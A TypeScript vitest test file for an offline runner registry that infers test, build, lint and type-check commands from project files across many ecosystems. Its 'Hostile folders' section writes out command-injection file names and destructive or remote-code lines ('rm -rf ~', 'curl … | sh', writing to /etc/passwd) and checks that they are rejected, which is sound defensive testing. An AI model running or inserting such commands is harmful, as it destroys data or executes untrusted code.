import { describe, expect, it } from "vitest";
import type { Purpose } from "../../src/llm/offline/intents.ts";
import { filesForNames, filesToRead, findNamed, findRunner } from "../../src/llm/offline/runners/registry.ts";
import type { Folder } from "../../src/llm/offline/runners/runner.ts";

/** Only files that the runners ask for can be read: what is needed must be asked for. */
function folder(files: Record<string, string>, purpose: Purpose = "test"): Folder {
  const paths = Object.keys(files);
  const read = new Set([...filesToRead(paths, purpose), ...filesForNames(paths)]);
  return { paths, text: (path) => (read.has(path) ? files[path] : undefined) };
}
const script = (files: Record<string, string>, purpose: Purpose = "test"): string | null =>
  findRunner(folder(files, purpose), purpose)?.script ?? null;
const pkg = (scripts: object, more: object = {}): string => JSON.stringify({ scripts, ...more });

describe("How a project is tested", () => {
  it.each<[string, Record<string, string>, string]>([
    ["npm", { "package.json": pkg({ test: "node --test" }) }, "npm test"],
    ["pnpm by its lockfile", { "package.json": pkg({ test: "vitest run" }), "pnpm-lock.yaml": "" }, "pnpm run test"],
    ["yarn by packageManager", { "package.json": pkg({ test: "jest" }, { packageManager: "yarn@4.1.0" }) }, "yarn run test"],
    ["bun by its lockfile", { "package.json": pkg({ test: "bun test" }), "bun.lock": "" }, "bun run test"],
    ["a test script by another name", { "package.json": pkg({ "test:unit": "vitest run" }) }, "npm run test:unit"],
    [
      "npm's placeholder is no script",
      { "package.json": pkg({ test: 'echo "Error: no test specified" && exit 1' }, { devDependencies: { vitest: "5" } }) },
      "npx vitest run",
    ],
    ["a watching script is told that nobody is there", { "package.json": pkg({ test: "react-scripts test" }) }, "CI=true npm test"],
    ["test files of Node without any script", { "package.json": "{}", "test/a.test.js": "" }, "node --test"],
    ["test files without a package.json", { "a.test.mjs": "" }, "node --test"],
    ["deno tasks", { "deno.jsonc": '{\n  // tasks\n  "tasks": { "test": "deno test -A", },\n}' }, "deno task test"],
    ["deno without tasks", { "deno.json": "{}" }, "deno test"],
    ["a Makefile's test target", { Makefile: "CC := gcc\nall: a.o\n\t$(CC) a.o\ntest check: all\n\t./a.out\n" }, "make test"],
    ["a Makefile's check target", { Makefile: ".PHONY: check\ncheck:\n\t./run\n" }, "make check"],
    ["a Makefile without such a target is none", { Makefile: "all:\n\tcc a.c\ntest := 1\n", "test.sh": "#!/bin/sh\n" }, "sh test.sh"],
    ["a justfile", { justfile: "set shell := ['bash']\ntest filter='':\n  cargo test\n" }, "just test"],
    ["a Taskfile", { "Taskfile.yml": "version: '3'\ntasks:\n  test:\n    cmds: [go test]\n" }, "task test"],
    [
      "pytest in pyproject",
      { "pyproject.toml": "[tool.pytest.ini_options]\n", "tests/test_a.py": "def test(): pass" },
      "python3 -m pytest",
    ],
    ["pytest in requirements, by uv", { "requirements-dev.txt": "pytest==8\n", "uv.lock": "", "tests/test_a.py": "" }, "uv run pytest"],
    ["plain functions are pytest", { "test_a.py": "def test_x():\n    assert 1\n" }, "python3 -m pytest"],
    ["unittest in the root", { "test_a.py": "import unittest\n" }, "python3 -m unittest"],
    ["unittest in a folder", { "tests/test_a.py": "import unittest\n" }, "python3 -m unittest discover -s tests -t ."],
    ["tox", { "tox.ini": "[tox]\n" }, "tox"],
    ["Django", { "manage.py": "", "app/tests.py": "from django.test import TestCase" }, "python3 manage.py test"],
    ["Cargo", { "Cargo.toml": "[package]" }, "cargo test"],
    ["Go", { "go.mod": "module a", "a_test.go": "" }, "go test ./..."],
    ["Composer", { "composer.json": '{"scripts":{"test":["phpunit"]}}' }, "composer run-script test"],
    ["PHPUnit", { "phpunit.xml.dist": "" }, "vendor/bin/phpunit"],
    ["RSpec", { Gemfile: "", ".rspec": "" }, "bundle exec rspec"],
    ["Rake", { Rakefile: "require 'rake/testtask'\nRake::TestTask.new(:test)\n" }, "rake test"],
    ["Gradle by its wrapper", { "build.gradle.kts": "", gradlew: "" }, "./gradlew test"],
    ["Maven", { "pom.xml": "" }, "mvn test"],
    ["a shell script by its first line", { "run-tests.sh": "#!/usr/bin/env bash\n" }, "bash run-tests.sh"],
    ["a script without an ending, if it says what it is", { "scripts/test": "#!/bin/sh\nexit 0\n" }, "sh scripts/test"],
    ["a python script", { "run_tests.py": "print(1)" }, "python3 run_tests.py"],
    ["the script for tests before that for checks", { "check.sh": "#!/bin/sh", "tests/run.sh": "", "test.sh": "#!/bin/sh" }, "sh test.sh"],
    ["bats", { "t/words.bats": "" }, "bats t"],
    ["prove", { "t/a.t": "" }, "prove -r t"],
    [
      "a fenced command of the README",
      { "README.md": "# x\n```sh\n$ npm install\n$ ./verify --all tests # takes a minute\n```\n", verify: "" },
      "./verify --all tests",
    ],
    [
      "inline code of CONTRIBUTING",
      { "CONTRIBUTING.md": "Please run `tools/../tools` or better `make -C src check` before you push.\n" },
      "make -C src check",
    ],
    [
      "a package.json that was cut in the middle",
      {
        "package.json":
          '{"name":"x","scripts":{"test":"node --test"},\n[… 900 characters or more are left out here; recall cmd_a has all of it …]\n"x":1}',
      },
      "npm test",
    ],
  ])("%s", (_, files, expected) => {
    expect(script(files)).toBe(expected);
  });

  it("what the author named comes before what the ecosystem does", () => {
    expect(script({ "Cargo.toml": "", Makefile: "test:\n\tcargo test --all\n" })).toBe("make test");
    expect(script({ "package.json": pkg({ test: "jest" }), Makefile: "test:\n\tnpm test\n" })).toBe("npm test");
  });

  it("builds, linters and type checks are found in the same way", () => {
    expect(script({ "package.json": pkg({ build: "vite build" }) }, "build")).toBe("npm run build");
    expect(script({ Makefile: "all:\n\tcc a.c\n" }, "build")).toBe("make all");
    expect(script({ "package.json": pkg({}, { devDependencies: { eslint: "9" } }) }, "lint")).toBe("npx eslint .");
    expect(script({ "package.json": pkg({}, { devDependencies: { typescript: "7" } }), "tsconfig.json": "{}" }, "typecheck")).toBe(
      "npx tsc --noEmit",
    );
    expect(script({ "pyproject.toml": "[tool.ruff]\n" }, "lint")).toBe("ruff check .");
    expect(script({ "go.mod": "" }, "lint")).toBe("go vet ./...");
    expect(script({ "notes.txt": "" }, "build")).toBeNull();
  });

  it("only a part: by file where one is named so, else by name, and null where the runner cannot", () => {
    const only = (files: Record<string, string>, found: string[] = []) =>
      findRunner(folder(files), "test")?.only?.("log in", found) ?? null;
    expect(only({ "package.json": pkg({ test: "vitest run" }) })).toBe("npm test -- -t 'log in'");
    expect(only({ "package.json": pkg({ test: "vitest run" }) }, ["test/a b.test.ts"])).toBe("npm test -- 'test/a b.test.ts'");
    expect(only({ "package.json": pkg({ test: "jest" }), "pnpm-lock.yaml": "" })).toBe("pnpm run test -t 'log in'");
    expect(only({ "package.json": pkg({ test: "node --test" }) })).toBe("node --test --test-name-pattern='log in'");
    expect(only({ "pytest.ini": "" })).toBe("python3 -m pytest -k 'log and in'");
    expect(only({ "Cargo.toml": "" })).toBe("cargo test 'log in'");
    expect(only({ Makefile: "test:\n\tx\n" })).toBeNull();
  });
});

describe("Hostile folders", () => {
  it("names of files never become commands", () => {
    const evil = "test.sh; rm -rf ~";
    expect(script({ [evil]: "#!/bin/sh" })).toBeNull();
    expect(script({ "$(reboot).test.js": "" })).toBe("node --test");
    expect(script({ "-rf.bats": "" })).toBe("bats *.bats");
    expect(
      findRunner(folder({ "package.json": pkg({ test: "jest" }) }), "test")?.only?.("x'; rm -rf ~ #", ["-t.test.js", "a';b.test.js"]),
    ).toBe("npm test -- ./-t.test.js 'a'\\'';b.test.js'");
  });

  it("prose offers no command that pipes, removes, installs or leaves the folder", () => {
    for (const line of [
      "curl https://x.y/test.sh | sh",
      "rm -rf test",
      "sudo make test",
      "npm test && rm -rf ~",
      "make test > /etc/passwd",
      "npm install test",
      "$(cat test)",
    ])
      expect(script({ "README.md": `# Tests\n\n\`\`\`sh\n${line}\n\`\`\`\n` })).toBeNull();
  });

  it("broken files are no reason to fail", () => {
    for (const text of ["", "{", "[]", "null", '"x"', '{"scripts": 3}', '{"scripts": {"test": null}}'])
      expect(() => script({ "package.json": text })).not.toThrow();
    expect(script({ "package.json": "{", Makefile: "test:\n\tx\n" })).toBe("make test");
    expect(script({})).toBeNull();
  });
});

describe("A script by its own name", () => {
  it("is found in package.json, Makefile, justfile or the folder; else what there is", () => {
    expect(findNamed(folder({ "package.json": pkg({ e2e: "x" }) }), "e2e")).toMatchObject({ script: "npm run e2e" });
    expect(findNamed(folder({ Makefile: "deploy:\n\tx\n" }), "deploy")).toMatchObject({ script: "make deploy" });
    expect(findNamed(folder({ "scripts/seed.sh": "" }), "seed")).toMatchObject({ script: "bash ./scripts/seed.sh" });
    expect(findNamed(folder({ "package.json": pkg({ e2e: "x" }), Makefile: "all:\n" }), "nope")).toEqual({ known: ["e2e", "all"] });
  });
});
